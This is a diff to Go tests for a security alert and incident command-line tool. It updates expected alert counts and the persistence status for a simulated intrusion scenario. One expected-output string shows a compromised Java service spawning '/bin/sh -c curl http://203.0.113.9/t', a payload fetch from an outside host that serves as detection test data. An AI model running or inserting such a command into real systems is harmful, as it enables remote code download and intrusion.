@@ -102,11 +102,11 @@ func lines[T any](t *testing.T, text string) []T {
 func TestListsAreTheContract(t *testing.T) {
 	startStand(t)
 	alerts := lines[alert.Alert](t, ran(t, "alerts", "--json"))
-	if len(alerts) != 9 {
+	if len(alerts) != 10 {
 		t.Fatalf("%d alerts", len(alerts))
 	}
 	for i, a := range alerts {
-		if a.ID == "" || a.Host.ID == "" || a.Event == nil || i > 0 && a.Time.Before(alerts[i-1].Time) {
+		if a.ID == "" || a.Host.ID == "" || a.Event == nil && a.Kind != alert.KindChain || i > 0 && a.Time.Before(alerts[i-1].Time) {
 			t.Errorf("alert %d: %+v", i, a)
 		}
 	}
@@ -115,11 +115,11 @@ func TestListsAreTheContract(t *testing.T) {
 		t.Errorf("incidents %+v", incidents)
 	}
 	one := lines[incident.Incident](t, ran(t, "incidents", "show", story.Intrusion, "--json"))
-	if len(one) != 1 || len(one[0].Alerts) != 8 {
+	if len(one) != 1 || len(one[0].Alerts) != 9 {
 		t.Errorf("incident %+v", one)
 	}
 	for args, want := range map[string]int{
-		"--host " + story.DatabaseHost: 1, "--incident " + story.Intrusion: 8, "--since 2026-01-02T03:10:00Z": 3,
+		"--host " + story.DatabaseHost: 1, "--incident " + story.Intrusion: 9, "--since 2026-01-02T03:10:00Z": 4,
 	} {
 		if got := lines[alert.Alert](t, ran(t, append([]string{"alerts", "--json"}, strings.Fields(args)...)...)); len(got) != want {
 			t.Errorf("%s gave %d alerts, want %d", args, len(got), want)
@@ -133,7 +133,7 @@ func TestTablesAreForPeople(t *testing.T) {
 	for _, part := range []string{
 		"Web service java on web-1 was made to run commands", "open, level critical, score 97",
 		"\n  1 /sbin/init (root)\n    2210 java -jar /opt/shop/api.jar (app)\n      31007 /bin/sh -c curl http://203.0.113.9/t",
-		"31015 [kworker/14:1] (app)  [3 alerts]", "file_flow", "persistence  not_seen",
+		"31015 [kworker/14:1] (app)  [3 alerts]", "file_flow", "persistence  yes",
 	} {
 		if !strings.Contains(shown, part) {
 			t.Errorf("%q is missing in\n%s", part, shown)
@@ -225,7 +225,7 @@ func TestLoginElsewhere(t *testing.T) {
 	if info, err := os.Stat(file); err != nil || info.Mode().Perm() != 0o600 {
 		t.Errorf("%v, %v", info, err)
 	}
-	if alerts := lines[alert.Alert](t, ran(t, "alerts", "--json")); len(alerts) != 9 {
+	if alerts := lines[alert.Alert](t, ran(t, "alerts", "--json")); len(alerts) != 10 {
 		t.Errorf("%d alerts", len(alerts))
 	}
 	if _, status, problem := runBaize(t, "", "users", "list"); status != exitUnreachable || !strings.Contains(problem, "needs the role admin") {
